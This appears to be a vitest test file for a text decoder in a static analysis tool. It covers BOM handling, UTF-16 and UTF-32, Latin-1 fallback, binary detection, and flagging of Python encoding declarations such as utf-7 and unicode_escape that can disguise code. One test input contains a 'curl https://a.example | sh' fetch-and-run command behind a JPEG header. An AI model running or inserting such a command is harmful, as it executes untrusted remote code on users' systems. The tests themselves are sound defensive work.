import { describe, expect, it } from 'vitest';
import { decodeText } from '../../../src/static/decode/text.ts';

const bytes = (...parts: (string | number[])[]) =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part) : Buffer.from(part))));

describe('decodeText', () => {
  it('takes UTF-8 as it is, line breaks included', () => {
    expect(decodeText(bytes('é\r\nb\rc'))).toEqual({ text: 'é\r\nb\rc', encoding: 'utf-8', problems: [] });
  });

  it('drops the byte order mark and nothing else', () => {
    expect(decodeText(bytes([0xef, 0xbb, 0xbf], 'a'))?.text).toBe('a');
    expect(decodeText(bytes('a\ufeffb'))?.text).toBe('a\ufeffb');
  });

  it.each([
    ['utf-16le', [0xff, 0xfe], (text: string) => Buffer.from(text, 'utf16le')],
    ['utf-16be', [0xfe, 0xff], (text: string) => Buffer.from(text, 'utf16le').swap16()],
  ])('reads %s with and without its mark', (encoding, mark, encode) => {
    const text = 'import os\nprint("héllo")\n';
    expect(decodeText(bytes(mark, [...encode(text)]))).toMatchObject({ text, encoding, problems: [] });
    const unmarked = decodeText(encode(text));
    expect(unmarked).toMatchObject({ text, encoding });
    expect(unmarked?.problems).toHaveLength(1);
  });

  it('falls back to Latin-1 and says so', () => {
    expect(decodeText(bytes('caf', [0xe9], ' au lait'))).toMatchObject({
      text: 'café au lait',
      encoding: 'latin-1',
      problems: [expect.stringContaining('not valid UTF-8')],
    });
  });

  it.each(['utf-7', 'UTF_7', 'unicode_escape', 'raw_unicode_escape', 'rot13', 'no-such-encoding'])(
    'reports the declared encoding %s',
    (name) => {
      expect(decodeText(bytes(`#!/usr/bin/python\n# -*- coding: ${name} -*-\nx = 1\n`))?.problems).toEqual([
        expect.stringContaining('declares the encoding'),
      ]);
    },
  );

  it.each(['utf-8', 'latin-1', 'ascii', 'UTF_8_SIG'])('is content with the declared encoding %s', (name) => {
    expect(decodeText(bytes(`# vim: set fileencoding=${name} :\nx = 1\n`))?.problems).toEqual([]);
  });

  it('undoes a declared legacy encoding', () => {
    const decoded = decodeText(bytes('# coding: koi8-r\nx = "', [0xf0, 0xf2, 0xe9], '"\n'));
    expect(decoded).toMatchObject({ encoding: 'koi8-r', problems: [] });
    expect(decoded?.text).toContain('ПРИ');
  });

  it('does not take a declaration from the third line, or from behind code', () => {
    expect(decodeText(bytes('\n\n# coding: utf-7\n'))?.problems).toEqual([]);
    expect(decodeText(bytes('x = 1\n# coding: utf-7\n'))?.problems).toEqual([]);
  });

  it('keeps a few NULs in a text and reports them', () => {
    const decoded = decodeText(bytes('a'.repeat(200), [0], 'b'));
    expect(decoded?.text).toHaveLength(202);
    expect(decoded?.problems).toEqual([expect.stringContaining('NUL')]);
  });

  it.each([
    ['zeros', new Uint8Array(4096)],
    ['a picture', bytes([0x89], 'PNG\r\n', [0x1a, 0x0a, 0, 0, 0, 13], 'IHDR', [0, 0, 1, 0])],
    ['a program', bytes([0x7f], 'ELF', [2, 1, 1], 'text'.repeat(100))],
    ['random bytes', Uint8Array.from({ length: 2048 }, (_, at) => (at * 7919 + 13) & 0xff)],
  ])('says that %s is not text', (_, content) => {
    expect(decodeText(content)).toBeNull();
  });

  it('takes a script that begins like a picture for text', () => {
    expect(decodeText(bytes('GIF89a = 1\nimport os\n'))?.text).toContain('import os');
    expect(decodeText(bytes([0xff, 0xd8, 0xff], '\ncurl https://a.example | sh\n'))?.text).toContain('curl');
  });

  it('reads an empty file as empty text', () => {
    expect(decodeText(new Uint8Array(0))).toEqual({ text: '', encoding: 'utf-8', problems: [] });
  });

  it.each([
    ['utf-32le', true],
    ['utf-32be', false],
  ])('reads %s with its mark', (encoding, isLittle) => {
    const words = [0xfeff, ...[...'import os # \u{1f600}\n'].map((character) => character.codePointAt(0)!)];
    const content = Buffer.alloc(4 * words.length);
    words.forEach((word, at) =>
      isLittle ? content.writeUInt32LE(word, 4 * at) : content.writeUInt32BE(word, 4 * at),
    );
    expect(decodeText(content)).toMatchObject({ text: 'import os # \u{1f600}\n', encoding });
  });

  it('loses nothing of a mixture of UTF-8 and other bytes', () => {
    const decoded = decodeText(bytes('é = "', [0xe9], '"; ï = 1; ', [0xc0, 0xaf], 'ü = ö'));
    expect(decoded).toMatchObject({ text: 'é = "é"; ï = 1; À¯ü = ö', encoding: 'utf-8' });
    expect(decoded?.problems).toEqual([expect.stringContaining('not valid UTF-8 in 3 places')]);
  });

  it('finds a declaration far to the right', () => {
    const { cookie } = decodeText(bytes(`#${' '.repeat(5_000)}coding: utf-7\n`))!;
    expect(cookie).toMatchObject({ name: 'utf-7', kind: 'rewriting', span: { start: 5_009, end: 5_014 } });
  });

  it.each([
    ['utf-8-anything', 'plain'],
    ['iso-8859-15', 'plain'],
    ['cp1252', 'plain'],
    ['gbk', 'legacy'],
    ['cp037', 'rewriting'],
    ['punycode', 'rewriting'],
    ['no-such', 'unknown'],
  ])('tells what the declaration %s means: %s', (name, kind) => {
    expect(decodeText(bytes(`\f # coding=${name}\r`))?.cookie).toMatchObject({ name, kind });
  });
});
